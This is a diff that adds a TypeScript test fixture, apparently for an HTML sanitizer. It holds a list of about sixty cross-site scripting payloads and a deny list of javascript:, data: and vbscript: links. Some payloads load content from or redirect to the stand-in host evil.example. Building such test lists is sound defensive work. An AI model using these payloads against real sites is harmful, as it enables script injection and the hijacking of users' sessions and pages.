@@ -1,0 +1,66 @@
+/** What a script would do if one of these texts came alive. Elements made from them carry `data-xss`. */
+const BOOM = 'window.xss=1;alert(1)'
+const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter']
+const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'iframe', 'object data=x']
+
+/** Sixty-odd texts of the kinds that have worked somewhere: tags, events, breaking out of attributes, scripts, templates. */
+export const PAYLOADS: string[] = [
+  `<script data-xss>${BOOM}</script>`,
+  `</script><script data-xss>${BOOM}</script>`,
+  `<ScRiPt data-xss>${BOOM}</sCrIpT>`,
+  `<script data-xss src=//evil.example/x.js></script>`,
+  `<script/data-xss>${BOOM}</script\t>`,
+  `<<script data-xss>${BOOM}//<</script>`,
+  `</title><script data-xss>${BOOM}</script>`,
+  `</textarea><script data-xss>${BOOM}</script>`,
+  `</style><script data-xss>${BOOM}</script>`,
+  `--><script data-xss>${BOOM}</script><!--`,
+  `]]><script data-xss>${BOOM}</script>`,
+  `"><img data-xss src=x onerror="${BOOM}">`,
+  `'><img data-xss src=x onerror='${BOOM}'>`,
+  '`><img data-xss src=x onerror=`alert(1)`>',
+  `" autofocus onfocus="${BOOM}" data-xss="`,
+  `' onmouseover='${BOOM}' data-xss='`,
+  ` onload=${BOOM} data-xss `,
+  `\\"><script data-xss>${BOOM}</script>`,
+  `\\u003cscript data-xss\\u003e${BOOM}\\u003c/script\\u003e`,
+  `&lt;script data-xss&gt;${BOOM}&lt;/script&gt;`,
+  `&#60;img data-xss src=x onerror=${BOOM}&#62;`,
+  `%3Cscript data-xss%3E${BOOM}%3C/script%3E`,
+  `\u2028<script data-xss>${BOOM}</script>\u2029`,
+  `\ufeff<script data-xss>${BOOM}</script>`,
+  `＜script data-xss＞${BOOM}＜/script＞`,
+  `<math><mtext></form><form><mglyph><style></math><img data-xss src onerror=${BOOM}>`,
+  `<svg><script data-xss>${BOOM}</script></svg>`,
+  `<svg><animate data-xss onbegin=${BOOM} attributeName=x dur=1s>`,
+  `<svg><a data-xss xlink:href="javascript:${BOOM}"><text y=1em>x</text></a></svg>`,
+  `<noscript><p title="</noscript><img data-xss src=x onerror=${BOOM}>">`,
+  `<template><script data-xss>${BOOM}</script></template>`,
+  `<base data-xss href="//evil.example/">`,
+  `<meta data-xss http-equiv=refresh content="0;url=//evil.example/">`,
+  `<link data-xss rel=stylesheet href=//evil.example/x.css>`,
+  `<style data-xss>*{background:url(//evil.example/x)}</style>`,
+  `<form data-xss action=//evil.example><button>x`,
+  `<a data-xss href="javascript:${BOOM}">x</a>`,
+  `<iframe data-xss srcdoc="<script>parent.${BOOM}</script>"></iframe>`,
+  `<embed data-xss src="data:text/html,<script>${BOOM}</script>">`,
+  `{{constructor.constructor('${BOOM}')()}}`,
+  `\${${BOOM}}`,
+  `<%= ${BOOM} %>`,
+  `{0} {count, plural, one {<b data-xss>} other {${BOOM}}}`,
+  `<0>${BOOM}</0><1/>`,
+  `{"__proto__":{"xss":1}}`,
+  ...TAGS.map((tag, at) => `<${tag} data-xss ${EVENTS[at % EVENTS.length] ?? 'onload'}=${BOOM}>`),
+  ...EVENTS.map((event) => `<p data-xss style="animation:x 1s" tabindex=1 ${event}=${BOOM}>x`),
+  `<i data-xss>${'x'.repeat(20)}</i>`,
+  `<b data-xss>`,
+]
+
+/** Addresses that a link must never lead to. */
+export const BAD_LINKS: string[] = [
+  `javascript:${BOOM}`,
+  `data:text/html,<script>${BOOM}</script>`,
+  '//evil.example/x',
+  `  JaVaScRiPt\t:${BOOM}`,
+  `vbscript:${BOOM}`,
+]
